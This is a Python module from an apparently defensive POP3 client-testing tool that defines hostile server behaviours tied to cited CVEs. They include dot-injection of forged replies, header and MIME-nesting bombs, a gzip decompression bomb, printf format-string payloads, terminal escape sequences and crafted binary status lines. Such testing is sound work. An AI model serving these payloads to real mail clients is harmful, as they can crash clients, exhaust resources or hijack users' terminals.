"""Messages that are made to break what reads them."""

import gzip
from base64 import encodebytes
from collections.abc import Callable, Collection, Iterable, Iterator, Sequence
from itertools import chain

from pop3lab.behaviours.retrieval_texts import line, of_message
from pop3lab.core.command import KEYWORDS, LISTINGS, LOGIN_VERBS, TEXTS
from pop3lab.core.hooks import Hooks
from pop3lab.core.reply import Body, Reply
from pop3lab.core.request import Request
from pop3lab.core.state import SessionState
from pop3lab.effects.bodies import CRLF, as_sent, message_body, with_final_crlf
from pop3lab.effects.commands import TableHook, refused
from pop3lab.effects.hooks import ReplyHook, StatusLineHook
from pop3lab.effects.listings import body_lines, with_lines
from pop3lab.effects.maildrop_views import ListedMessage, LoginContext, MaildropView, ViewHook
from pop3lab.rules.behaviour import Behaviour, Layer
from pop3lab.rules.values import COUNT, OCTETS, TEXT, Parameter, choice

_Bomb = Callable[[int], Iterator[bytes]]  # of a size, in octets or in number of parts

_BODY = b"\r\nthe body\r\n"
_LINES = 1000  # in one piece
_MEMBER = 1 << 20  # octets of one member of a gzip file, unpacked

_INJECTIONS = {"lf": b"\n.\r\n", "lf-lf": b"\n.\n", "cr": b"\r.\r", "crlf": b".\r\n"}


def _injected(form: str, octets: bytes) -> Hooks:
    """Behind a message comes a line with a dot, as if it were part of it, and more replies."""
    tail = _INJECTIONS[form] + octets

    def say(session: SessionState, request: Request, reply: Reply) -> Reply:
        body = message_body(reply)
        if body is None:
            return reply
        chunks = _with(with_final_crlf(as_sent(body)), tail)
        return reply._replace(body=Body(chunks, body.end, stuffed=False))

    return ReplyHook(say, "RETR")


def _with(chunks: Iterator[bytes], tail: bytes) -> Iterator[bytes]:
    yield from chunks
    yield tail


# Headers


def _long(size: int) -> Iterator[bytes]:
    yield b"Subject: "
    yield from line(size, 0)
    yield b"\r\n" + _BODY


def _many(size: int) -> Iterator[bytes]:
    for start in range(0, size, _LINES):
        names = range(start, min(start + _LINES, size))
        yield b"".join([b"X-%d: bomb\r\n" % name for name in names])
    yield _BODY


def _none(size: int) -> Iterator[bytes]:
    yield _BODY


def _date(size: int) -> Iterator[bytes]:
    yield b"Date: Sat, 5 Nov 1994 21:30:00 +"
    yield b"0" * size
    yield b"\r\n" + _BODY


def _nested(size: int) -> Iterator[bytes]:
    yield b"MIME-Version: 1.0\r\n"
    for depth in range(size):
        yield b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth)
    yield _BODY


def _boundary(size: int) -> Iterator[bytes]:
    yield b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=""\r\n\r\n'
    yield b"--\r\n\r\na part\r\n----\r\n"


HEADERS: dict[str, tuple[_Bomb, int]] = {
    "long": (_long, 1 << 20),
    "many": (_many, 1_000_000),
    "none": (_none, 0),
    "date": (_date, 1 << 16),
    "nesting": (_nested, 10_000),
    "boundary": (_boundary, 0),
}

# Attachments


def _attached(name: bytes) -> bytes:
    return (
        b"Subject: an attachment\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="bomb"\r\n\r\n--bomb\r\n'
        b"Content-Type: application/octet-stream\r\n"
        b'Content-Disposition: attachment; filename="%s"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" % name
    )


_LAST = b"--bomb--\r\n"


def _plain(size: int) -> Iterator[bytes]:
    row = b"A" * 76 + b"\r\n"
    yield _attached(b"zeros.bin")
    for left in range(-(-size // len(row)), 0, -_LINES):
        yield row * min(left, _LINES)
    yield _LAST


def _gzip(size: int) -> Iterator[bytes]:
    yield _attached(b"zeros.gz")
    packed = gzip.compress(bytes(_MEMBER), mtime=0) * (size // _MEMBER)
    packed += gzip.compress(bytes(size % _MEMBER), mtime=0)
    yield encodebytes(packed).replace(b"\n", b"\r\n")
    yield _LAST


def _parts(size: int) -> Iterator[bytes]:
    yield b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="bomb"\r\n\r\n'
    part = b"--bomb\r\nContent-Type: text/plain\r\n\r\na part\r\n"
    for left in range(size, 0, -_LINES):
        yield part * min(left, _LINES)
    yield _LAST


ATTACHMENTS: dict[str, tuple[_Bomb, int]] = {
    "plain": (_plain, 10 << 20),
    "gzip": (_gzip, 10 << 20),
    "parts": (_parts, 100_000),
}


def _bomb(bomb: _Bomb, size: int, number: int) -> Hooks:
    octets = sum(map(len, bomb(size)))

    def change(one: ListedMessage) -> ListedMessage:
        return one.with_filter(lambda _: bomb(size), octets)

    return ViewHook(of_message(number, change))


_NUMBER = Parameter("number", COUNT, "which message, by its number in the first session", 1)

_PARSING_MAIL_ROWS = (
    Behaviour(
        "dot-injection",
        "a message ends early for those that take other line ends, and replies follow in it",
        "careless servers: POP3Lite, GreenMail (PR#1049) (C)",
        lambda server, form, octets: _injected(form, octets),
        (
            Parameter("form", choice(*_INJECTIONS), "how the dot stands there", "lf"),
            Parameter("octets", OCTETS, "what follows it", b"+OK\r\n+OK\r\n"),
        ),
        family="attack",
        category="parsing",
        bugs="CVE-2001-0996, CVE-1999-1033 in Outlook Express, CVE-2002-2338 in Mozilla",
        against=("no-stuffing", "over-stuffing"),
        takes=("empty message",),
    ),
    Behaviour(
        "header-bombs",
        "a message has a header, or a structure, of great size or none",
        "an attack",
        lambda server, form, size, number: _bomb(
            HEADERS[form][0], size or HEADERS[form][1], number
        ),
        (
            Parameter("form", choice(*HEADERS), "what is great", "long"),
            Parameter("size", COUNT, "its octets, lines or depth, 0 for a good deal", 0),
            _NUMBER,
        ),
        family="attack",
        category="parsing",
        bugs="CVE-2002-1174, CVE-2005-4348 in fetchmail; Outlook's maildrop was blocked",
        layer=Layer.FIRST,
        aspect="the text of message {number}",
    ),
    Behaviour(
        "attachment-bomb",
        "a message has a great attachment, one that unpacks to it, or a great many parts",
        "no server known (D)",
        lambda server, form, size, number: _bomb(
            ATTACHMENTS[form][0], size or ATTACHMENTS[form][1], number
        ),
        (
            Parameter("form", choice(*ATTACHMENTS), "which", "plain"),
            Parameter("size", COUNT, "its octets or parts, 0 for 10 MiB or 100,000 parts", 0),
            _NUMBER,
        ),
        family="attack",
        category="parsing",
        layer=Layer.FIRST,
        aspect="the text of message {number}",
    ),
)


# Texts of replies that do something where they are shown, stored or followed.

FORMAT_STRING = b"%n%s%x" * 50
ESCAPES = b"\x1b]0;owned\x07\x1b[2J\x1b[31m\x08\x08ok\rover"
BINARY = bytes(octet for octet in range(1, 256) if octet not in b"\r\n")


class _Everywhere(StatusLineHook):
    """A text behind each status line, and in lists and messages."""

    replies: Collection[str] = (*LISTINGS, *KEYWORDS, *TEXTS)

    def __init__(self, text: bytes) -> None:
        super().__init__(lambda status: status + b" " + text)
        self._text = text

    def reply(self, request: Request, reply: Reply) -> Reply:
        if not reply.ok or reply.body is None:
            return reply
        if request.verb in TEXTS:
            chunks = self._in_message(reply.body.chunks, whole=request.verb == "RETR")
            return reply._replace(body=reply.body._replace(chunks=chunks))
        lines = body_lines(reply.body)
        if request.verb == "CAPA":
            return with_lines(reply, reply.body, [*lines, b"X-" + self._text])
        gap = b" " if request.verb == "LIST" else b""
        return with_lines(reply, reply.body, [line + gap + self._text for line in lines])

    def _in_message(self, chunks: Iterable[bytes], whole: bool) -> Iterable[bytes]:
        named = chain((b"X-Text: " + self._text + CRLF,), chunks)
        return chain(with_final_crlf(named), (self._text + CRLF,)) if whole else named


def _status(form: str, octets: int) -> bytes:
    return b"x" * octets if form == "long" else BINARY


def _another_server(session: int) -> MaildropView:
    def view(visit: LoginContext) -> Sequence[ListedMessage]:
        if visit.nth < session:
            return visit.messages
        return [
            one.with_text(b"Subject: another server's\r\n\r\nmessage %d\r\n" % number)
            for number, one in enumerate(visit.messages, 1)
        ]

    return view


_PARSING_TEXTS_ROWS = (
    Behaviour(
        "format-strings",
        "formats of printf are in all texts: status lines, lists, headers and bodies",
        "an attack",
        lambda server, text: _Everywhere(text),
        (Parameter("text", OCTETS, "which", FORMAT_STRING),),
        family="attack",
        category="parsing",
        bugs="CVE-2007-2958 in Sylpheed and Claws, CVE-2005-4300 in libremail",
        takes=("empty message",),
    ),
    Behaviour(
        "terminal-escapes",
        "a terminal's escapes are in all texts: status lines, lists, headers and bodies",
        "the ANSI test of EAST (A)",
        lambda server, text: _Everywhere(text),
        (Parameter("text", OCTETS, "which", ESCAPES),),
        family="attack",
        category="parsing",
        takes=("empty message",),
    ),
    Behaviour(
        "nul-everywhere",
        "a NUL is in all texts: status lines, lists, headers and bodies",
        "an attack",
        lambda server, text: _Everywhere(text),
        (Parameter("text", OCTETS, "the NUL and what stands around it", b"before\x00behind"),),
        family="attack",
        category="parsing",
        bugs="what is behind it is lost; Outlook hangs",
        takes=("empty message",),
    ),
    Behaviour(
        "crafted-status",
        "status lines are binary, or far too long",
        "an attack",
        lambda server, form, octets: StatusLineHook(
            lambda line: line + b" " + _status(form, octets)
        ),
        (
            Parameter("form", choice("long", "binary"), "which", "long"),
            Parameter("octets", COUNT, "how many more there are", 2000),
        ),
        family="attack",
        category="parsing",
        bugs="CVE-2014-3891 in Becky!",
    ),
    Behaviour(
        "redirect-referral",
        "a login is refused, and refers to another server",
        "a feature of Dovecot (A)",
        lambda server, url: TableHook(
            refused(*LOGIN_VERBS, text=f"[REFERRAL/{url}] Try this server instead.")
        ),
        (Parameter("url", TEXT, "where to", "pop://mail.example.net/"),),
        family="attack",
        category="parsing",
        layer=Layer.FIRST,
        aspect="the answer to a login",
        takes=(
            "login",
            "failed login",
        ),
    ),
    Behaviour(
        "resume-confusion",
        "from a session on the same unique-ids have other texts, as if by another server",
        "no server known (D)",
        lambda server, session: ViewHook(_another_server(session)),
        (Parameter("session", COUNT, "from which of the user's sessions on", 2),),
        family="attack",
        category="parsing",
        layer=Layer.FIRST,
    ),
)

ROWS = (*_PARSING_MAIL_ROWS, *_PARSING_TEXTS_ROWS)
